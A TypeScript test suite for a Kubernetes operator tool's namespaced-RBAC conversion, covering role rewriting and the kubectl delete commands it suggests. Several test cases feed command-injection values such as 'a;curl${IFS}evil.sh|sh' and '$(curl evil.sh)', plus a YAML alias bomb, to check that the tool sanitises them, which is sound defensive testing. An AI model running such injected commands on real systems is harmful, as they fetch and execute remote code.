import { describe, expect, it } from 'vitest';
import { parseAllDocuments } from 'yaml';
import { changesOf, madeOnce, newProject, problemsOf, type TestProject } from '../../support/projects.js';

const controller = 'src/controller/webserver.controller.ts';

async function makeProjectWithKinds(): Promise<TestProject> {
  const project = await newProject();
  expect(problemsOf(await project.createApi())).toEqual([]);
  expect(problemsOf(await project.createApi({ kind: 'Cache', controller: false }))).toEqual([]);
  return project;
}

const projectWithKinds = madeOnce(makeProjectWithKinds);

/** Kind, name and namespace of every object in a file. */
const objectsIn = (project: TestProject, path: string): string[] =>
  parseAllDocuments(project.read(path)).map((document) => {
    const { kind, metadata } = document.toJS() as { kind: string; metadata: { name: string; namespace?: string } };
    return [kind, metadata.namespace, metadata.name].filter((each) => each !== undefined).join(' ');
  });

const roleOf = (name: string): string => JSON.stringify({ kind: 'ClusterRole', metadata: { name } });

const grown = Array.from({ length: 9 }, (_, index) => {
  const [before, after] = ['abcdefghij'.charAt(index), 'abcdefghij'.charAt(index + 1)];
  return `${after}: &${after} [${Array.from({ length: 9 }, () => `*${before}`).join(', ')}]\n`;
}).join('');

describe('edit --namespaced', () => {
  it('gives the operator the rights of its namespace, and back gives the tree byte for byte', async () => {
    const project = await projectWithKinds();
    const before = project.snapshot();
    expect(problemsOf(await project.settings({ namespaced: true }))).toEqual([]);
    expect(objectsIn(project, 'config/rbac/role.yaml')).toEqual(['Role test-operator-system manager-role']);
    expect(objectsIn(project, 'config/rbac/role_binding.yaml')).toEqual(['RoleBinding system manager-rolebinding']);
    expect(objectsIn(project, 'config/rbac/cache_viewer_role.yaml')).toEqual(['Role cache-viewer-role']);
    expect(objectsIn(project, 'config/rbac/metrics_auth_role.yaml')).toEqual(['ClusterRole metrics-auth-role']);
    expect(project.read('config/manager/manager.yaml')).toMatch(/name: WATCH_NAMESPACE\n +valueFrom:\n +fieldRef:/);
    expect(project.read(controller).match(/ {2}namespace: 'test-operator-system',\n/g)).toHaveLength(3);
    expect(problemsOf(await project.check())).toEqual([]);
    expect(changesOf(await project.check())).toEqual([]);
    expect(problemsOf(await project.settings({ namespaced: false }))).toEqual([]);
    expect(project.snapshot()).toEqual(before);
  });

  it('names the commands that delete the roles which a cluster keeps', async () => {
    const project = await projectWithKinds();
    const names = ['manager-role', 'cache-viewer-role', 'webserver-admin-role'];
    const { next, summary } = await project.settings({ namespaced: true });
    expect(summary).toContain('delete the old roles from the cluster');
    const [roles, bindings] = ['clusterrole', 'clusterrolebinding'].map((kind) =>
      next.find((each) => each.startsWith(`kubectl delete ${kind} `)),
    );
    for (const name of names) expect(roles?.split(' ')).toContain(`test-operator-${name}`);
    expect(bindings).toBe('kubectl delete clusterrolebinding test-operator-manager-rolebinding');
    expect(roles).not.toContain('metrics-auth-role');
    const back = await project.settings({ namespaced: false });
    expect(back.next).toContain(
      'kubectl delete rolebinding test-operator-manager-rolebinding --namespace test-operator-system',
    );
    expect((await project.settings({ multigroup: true })).next).toEqual([]);
  });

  it('names roles as the kustomization of the user does', async () => {
    const project = await projectWithKinds();
    const kustomization = 'config/default/kustomization.yaml';
    project.edit(kustomization, 'namePrefix: test-operator-', 'namePrefix: acme-\nnameSuffix: -v2');
    project.edit(kustomization, 'namespace: test-operator-system', 'namespace: acme');
    const { next } = await project.settings({ namespaced: true });
    expect(next).toContain('kubectl delete clusterrolebinding acme-manager-rolebinding-v2');
    expect((await project.settings({ namespaced: false })).next).toContain(
      'kubectl delete rolebinding acme-manager-rolebinding-v2 --namespace acme',
    );
  });

  it.each(['namePrefix: "--all "', 'namePrefix: [curl]', 'namespace: "x; curl evil.sh"', 'nameSuffix: "\\n--all"'])(
    'puts nothing of a kustomization with %s into a command',
    async (line) => {
      const project = await projectWithKinds();
      const path = 'config/default/kustomization.yaml';
      const others = project
        .read(path)
        .split('\n')
        .filter((each) => !each.startsWith(line.split(':', 1)[0]!));
      project.write(path, `${others.join('\n')}${line}\n`);
      const { next } = await project.settings({ namespaced: true });
      expect(next.join('\n')).not.toMatch(/--all|curl/);
    },
  );

  it.each([
    ['names with commands', roleOf('a;curl${IFS}evil.sh|sh')],
    ['names of several lines', roleOf('b\ncurl evil.sh')],
    ['names with substitutions', roleOf('$(curl evil.sh)')],
    ['names that are flags', roleOf('--all')],
    ['names of other folders', roleOf('../x')],
    ['names that are not texts', 'kind: ClusterRole\nmetadata: { name: { toString: 1 } }\n'],
    ['kinds that are not texts', 'kind: { toString: 1 }\n'],
    ['no object', '- 1\n---\ntext\n---\nkind: ClusterRole\nmetadata: [1]\n'],
    ['an alias without an anchor', 'kind: Role\na: *x\n'],
    ['an error', 'kind: Role\na: [*x\n'],
    ['aliases that grow', `a: &a [1]\n${grown}kind: ClusterRole\nmetadata: { name: bomb }\n`],
    ['an anchor in itself', 'a: &a [*a]\nkind: Role\n'],
    ['more entries than a manifest has', Array.from({ length: 60_000 }, (_, index) => `k${index}: 1\n`).join('')],
    ['more levels than a manifest has', `a: ${'['.repeat(20_000)}\n`],
    ['a merge of no mapping', 'kind: ClusterRole\n<<: 1\nmetadata: { name: curl }\n'],
  ])('puts nothing of a role file with %s into a command', async (_, text) => {
    const project = await projectWithKinds();
    project.write('config/rbac/role.yaml', text);
    const start = performance.now();
    const { next } = await project.settings({ namespaced: true });
    expect(performance.now() - start).toBeLessThan(20_000);
    for (const each of next) {
      expect(each).not.toMatch(/curl|IFS|all|x$|\.\.|object|undefined|\n/);
      expect(each).toMatch(/^kubectl delete [a-z]+( test-operator-[\w.:-]+)+$/);
    }
    expect(next.join(' ')).toContain('test-operator-manager-rolebinding');
  });

  it('names a role that a user has added, under every name that tools give', async () => {
    const project = await projectWithKinds();
    const names = ['system:mine', 'My_Role', 'a.b-c'];
    project.write('config/rbac/role.yaml', names.map((name) => `${roleOf(name)}\n`).join('---\n'));
    const { next } = await project.settings({ namespaced: true });
    const words = next.find((each) => each.startsWith('kubectl delete clusterrole '))?.split(' ');
    for (const name of names) expect(words).toContain(`test-operator-${name}`);
  });

  it('changes the markers that the user has written, and lists those that have a namespace of their own', async () => {
    const project = await projectWithKinds();
    const mine = [
      "@Rbac({ groups: ['apps'], resources: ['deployments'], verbs: ['get'] })",
      '@Rbac({ groups: [""], resources: ["nodes"], verbs: ["get"], roleName: "nodes" })',
      "@Rbac({ urls: ['/version'], verbs: ['get'], roleName: 'urls' })",
      "@Rbac({ groups: [''], resources: ['secrets'], verbs: ['get'], namespace: 'vault' })",
      "@Rbac({\n  groups: ['batch'],\n  resources: ['jobs'], // theirs\n  verbs: ['get']\n})",
      "@Rbac({\n  groups: ['batch'],\n  resources: ['jobs'],\n  verbs: ['list'] // mine\n})",
    ];
    project.edit(controller, 'export class', `${mine.join('\n')}\nexport class`);
    project.edit(controller, "verbs: ['update'],\n", "verbs: ['update'], // mine\n");
    const tags = [
      "/** @rbac { groups: ['apps'], resources: ['daemonsets'], verbs: ['get'] } */\nexport const one = 1;",
      "/** @rbac { groups: [''], resources: ['secrets'], verbs: ['list'], namespace: 'vault' } */\nexport const two = 2;",
      "/**\n * Helps.\n * @rbac {\n *   groups: ['policy'],\n *   resources: ['poddisruptionbudgets'],\n *   verbs: ['get'],\n * }\n */\nexport const three = 3;",
      "// @rbac { groups: ['no'], resources: ['tags'], verbs: ['get'] }",
    ];
    project.write(controller, `${project.read(controller)}\n${tags.join('\n')}\n`);
    await project.manifests();
    const before = project.snapshot();
    // The last is in a comment that is not read, and that is said as well.
    expect(problemsOf(await project.settings({ namespaced: true }))).toEqual([
      'permission-namespace-unchanged',
      'permission-namespace-unchanged',
      'marker-in-comment',
    ]);
    const namespace = "namespace: 'test-operator-system'";
    expect(project.read(controller)).toContain(
      [
        tags[0]!.replace(' }', `, ${namespace} }`),
        tags[1],
        tags[2]!.replace("['get'],\n", `['get'],\n *   ${namespace},\n`),
        tags[3],
      ].join('\n'),
    );
    expect(project.read(controller)).toContain(
      [
        "@Rbac({ groups: ['apps'], resources: ['deployments'], verbs: ['get'], namespace: 'test-operator-system' })",
        ...mine.slice(1, 4),
        "@Rbac({\n  groups: ['batch'],\n  resources: ['jobs'], // theirs\n  verbs: ['get'],\n  namespace: 'test-operator-system'\n})",
      ].join('\n'),
    );
    expect(project.read(controller)).toContain("verbs: ['update'], // mine\n  namespace: 'test-operator-system',\n");
    expect(problemsOf(await project.settings({ namespaced: false }))).toEqual([
      'permission-namespace-unchanged',
      'permission-namespace-unchanged',
      'marker-in-comment',
    ]);
    expect(project.snapshot()).toEqual(before);
  });

  it('says what a kind of the cluster needs, and binds it', async () => {
    const project = await newProject();
    await project.createApi({ namespaced: false });
    const before = project.snapshot();
    expect(problemsOf(await project.settings({ namespaced: true }))).toEqual(['cluster-scoped-kind']);
    expect(problemsOf(await project.createApi({ kind: 'Node', namespaced: false }))).toEqual(['cluster-scoped-kind']);
    expect(problemsOf(await project.deleteApi({ kind: 'Node' }))).toEqual([]);
    expect(objectsIn(project, 'config/rbac/role.yaml')).toEqual([
      'ClusterRole manager-role',
      'Role test-operator-system manager-role',
    ]);
    expect(objectsIn(project, 'config/rbac/role_binding.yaml')).toEqual([
      'RoleBinding system manager-rolebinding',
      'ClusterRoleBinding manager-cluster-rolebinding',
    ]);
    expect(objectsIn(project, 'config/rbac/webserver_viewer_role.yaml')).toEqual(['ClusterRole webserver-viewer-role']);
    expect(problemsOf(await project.check())).toEqual([]);
    expect(problemsOf(await project.settings({ namespaced: false }))).toEqual([]);
    expect(project.snapshot()).toEqual(before);
  });

  it('covers what an operator of an image needs', async () => {
    const project = await newProject();
    expect(problemsOf(await project.createApi({ deployImage: { image: 'memcached:1.6' } }))).toEqual([]);
    const before = project.snapshot();
    expect(problemsOf(await project.settings({ namespaced: true }))).toEqual([]);
    expect(objectsIn(project, 'config/rbac/role.yaml')).toEqual(['Role test-operator-system manager-role']);
    expect(problemsOf(await project.settings({ namespaced: false }))).toEqual([]);
    expect(project.snapshot()).toEqual(before);
  });

  it('tells of rights that nothing gives to the operator', async () => {
    const project = await projectWithKinds();
    await project.settings({ namespaced: true });
    project.edit(controller, "  namespace: 'test-operator-system',\n", '');
    expect(problemsOf(await project.manifests())).toEqual(['unbound-permission']);
  });

  it('and --multigroup at once, in a project with changes of the user', async () => {
    const project = await newProject();
    await project.createApi({ group: 'shop' });
    project.edit(controller, '/** Reconciles', '/** Mine. Reconciles');
    const before = project.snapshot();
    expect(problemsOf(await project.settings({ multigroup: true, namespaced: true }))).toEqual([]);
    const text = project.read('src/controller/shop/webserver.controller.ts');
    expect(text).toContain('/** Mine. Reconciles');
    expect(text.match(/namespace: 'test-operator-system'/g)).toHaveLength(3);
    expect(problemsOf(await project.check())).toEqual([]);
    expect(problemsOf(await project.settings({ multigroup: false, namespaced: false }))).toEqual([]);
    expect(project.snapshot()).toEqual(before);
  });
});
